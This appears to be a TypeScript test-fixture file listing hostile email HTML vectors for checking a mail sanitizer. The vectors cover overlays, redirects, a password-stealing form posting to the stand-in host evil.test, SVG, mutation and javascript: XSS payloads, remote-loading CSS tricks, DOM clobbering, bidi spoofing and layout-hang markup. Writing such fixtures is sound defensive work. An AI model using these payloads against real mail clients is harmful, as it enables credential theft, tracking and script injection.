/** Attacks that the collection of vectors lacks. They run no script, but cover the page, load remote content, redirect or hang. */
export type Vector = { id: string; html: string; why: string };

const evil = "https://evil.test";

export const hostileMails: Vector[] = [
  {
    id: "own-overlay",
    why: "a link that covers the whole mail, and the product if it could",
    html: `<a href="${evil}/click" style="position:fixed;inset:0;z-index:2147483647;background:red;opacity:.01">.</a>
      <div style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px;background:red">x</div>
      <div style="margin:-400px;transform:scale(50)">y</div>`,
  },
  {
    id: "own-base",
    why: "relative addresses resolve to the sender's server",
    html: `<base href="${evil}/"><a href="a">a</a><img src="b.png"><base target="_top">`,
  },
  {
    id: "own-refresh",
    why: "the page redirects",
    html: `<meta http-equiv="refresh" content="0;url=${evil}/"><meta http-equiv="Set-Cookie" content="a=b">
      <meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="referrer" content="unsafe-url">`,
  },
  {
    id: "own-form",
    why: "a form asks for the password and sends it away",
    html: `<form action="${evil}/post" method="post"><input name="password" type="password" autofocus><button formaction="${evil}/b">Sign in</button>
      <input type="image" src="${evil}/i.png"><select><option>a</select><textarea>t</textarea><isindex action="${evil}"></form>`,
  },
  {
    id: "own-svg",
    why: "SVG and MathML run scripts",
    html: `<svg onload="alert(1)"><script>alert(1)</script><image href="${evil}/s.png"/><use href="${evil}/u.svg#x"/>
      <a href="javascript:alert(1)"><text y="20">x</text></a><animate attributeName="href" values="javascript:alert(1)"/>
      <foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
      <math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction><mglyph src="${evil}/m.png"></math>`,
  },
  {
    id: "own-frames",
    why: "pages within the page",
    html: `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="javascript:alert(1)"></iframe>
      <frameset><frame src="${evil}"></frameset><object data="${evil}/o.swf"></object><embed src="${evil}/e.swf">
      <portal src="${evil}"></portal><fencedframe src="${evil}"></fencedframe><applet code="a"></applet>`,
  },
  {
    id: "own-top",
    why: "a link that would replace the product's page",
    html: `<a href="${evil}/top" target="_top">top</a><a href="${evil}/parent" target="_parent" rel="opener">parent</a>`,
  },
  {
    id: "own-sheets",
    why: "style sheets and fonts load remote content",
    html: `<style>@import url("${evil}/i.css");@font-face{font-family:e;src:url(${evil}/f.woff2)}
      *{font-family:e;background:url(${evil}/b.png)}body{display:none}</style>
      <link rel="stylesheet" href="${evil}/l.css"><link rel="dns-prefetch" href="//evil.test"><link rel="preconnect" href="${evil}">
      <link rel="prefetch" href="${evil}/p"><link rel="preload" as="image" href="${evil}/q.png"><link rel="icon" href="${evil}/f.ico">`,
  },
  {
    id: "own-server-sheet",
    why: "a style sheet as the server writes it, with rules that the server would not",
    html: `<style>@import url("${evil}/i.css");@font-face{font-family:e;src:url(${evil}/f.woff2)}
      .ib-mail p{background:url(${evil}/b.png)}.ib-mail *{font-family:e}html{background:url(${evil}/h.png)}
      .ib-mail a{position:fixed;inset:0;z-index:9}.ib-mail p::after{content:url(${evil}/c.png)}
      .ib-mail p:has(a){list-style:url(${evil}/l.png)}@layer x{.ib-mail p{background:url(${evil}/y.png)}}
      @media screen{.ib-mail b{background:image-set("${evil}/s.png" 1x)}}.ib-mail{height:100vh}</style>
      <div class="ib-mail"><p>a <b>b</b> <a href="${evil}">c</a></p></div>`,
  },
  {
    id: "own-css",
    why: "an address in a style, in every spelling",
    html: [
      `background:url(${evil}/1)`,
      String.raw`background:\75\72\6c(${evil}/2)`,
      `background-image:image-set("${evil}/3" 1x)`,
      `background:-webkit-image-set(url(${evil}/4) 1x)`,
      `list-style:url(${evil}/5)`,
      `cursor:url(${evil}/6),auto`,
      `border-image:url(${evil}/7) 30`,
      `--x:url(${evil}/8);background:var(--x)`,
      `content:url(${evil}/9)`,
      `background:u/**/rl(${evil}/10)`,
      `filter:url(${evil}/11#f)`,
      `mask:url(${evil}/12)`,
      `background:cross-fade(url(${evil}/13),red)`,
      "width:expression(alert(1))",
      "behavior:url(#default#time2)",
    ]
      .map((style) => `<p style='${style}'>s</p>`)
      .join(""),
  },
  {
    id: "own-media",
    why: "every attribute that loads",
    html: `<img srcset="${evil}/1.png 1x"><picture><source srcset="${evil}/2.png"><img src="${evil}/3.png" loading="eager" lowsrc="${evil}/4.png" dynsrc="${evil}/5"></picture>
      <video poster="${evil}/6.png" src="${evil}/7.mp4" autoplay><track src="${evil}/8.vtt"></video><audio src="${evil}/9.mp3" autoplay></audio>
      <table background="${evil}/10.png"><tr><td background="${evil}/11.png">x</td></tr></table><body background="${evil}/12.png">
      <bgsound src="${evil}/13.mid"><image src="${evil}/14.png"><img src="//evil.test/15.png"><img src="\\\\evil.test\\16.png">
      <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"><img attributionsrc="${evil}/17" src="x">`,
  },
  {
    id: "own-links",
    why: "script addresses in unusual spellings",
    html: [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "java\tscript:alert(1)",
      "java\nscript:alert(1)",
      "&#106;avascript:alert(1)",
      "\u0001javascript:alert(1)",
      " javascript:alert(1)",
      "javascript&colon;alert(1)",
      "vbscript:msgbox(1)",
      "data:text/html,<script>alert(1)</script>",
      "blob:https://evil.test/1",
      "file:///etc/passwd",
      "intent://evil#Intent;end",
      "view-source:https://evil.test",
      "/api/auth/logout",
    ]
      .map((href) => `<a href="${href}" ping="${evil}/ping" download>l</a>`)
      .join(""),
  },
  {
    id: "own-bidi",
    why: "bidirectional characters that reverse a link's text",
    html: `<a href="${evil}/">https://\u202emoc.knab\u202c/</a><p dir="rtl">\u2066\u202e\u2067 txt.exe</p>`,
  },
  {
    id: "own-mutation",
    why: "markup that changes its meaning when it is parsed again",
    html: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
      <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
      <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
      <template><img src=x onerror=alert(1)></template><!--><img src=x onerror=alert(1)>-->
      <listing>&lt;img src=x onerror=alert(1)&gt;</listing><xmp><img src=x onerror=alert(1)></xmp>`,
  },
  {
    id: "own-focus",
    why: "elements that act without a script",
    html: `<details open ontoggle="alert(1)"><summary>s</summary></details><dialog open>d</dialog>
      <button popovertarget="p" autofocus>p</button><div popover id="p">p</div><p tabindex="1" autofocus onfocus="alert(1)">f</p>
      <p contenteditable accesskey="r">e</p><marquee onstart="alert(1)">m</marquee><blink>b</blink>`,
  },
  {
    id: "own-clobber",
    why: "names that shadow the document's properties",
    html: `<form id="body" name="documentElement"><input name="attributes"><input id="nodeName"></form>
      <img name="getElementById" id="cookie"><a id="location" href="${evil}">x</a>`,
  },
  {
    id: "own-tall",
    why: "a mail that grows with its frame without limit",
    html: `<div style="height:100vh;min-height:200dvh">a</div><div style="height:99999999px">b</div><div style="width:999999px">c</div>`,
  },
  {
    id: "own-table",
    why: "a table that takes long to lay out",
    html: `<table>${'<tr><td>1</td><td style="padding:1px">2</td><td>3</td></tr>'.repeat(1500)}</table>`,
  },
  {
    id: "own-deep",
    why: "deeply nested tags",
    html: `${"<div><b>".repeat(3000)}deep${"</b></div>".repeat(3000)}`,
  },
];
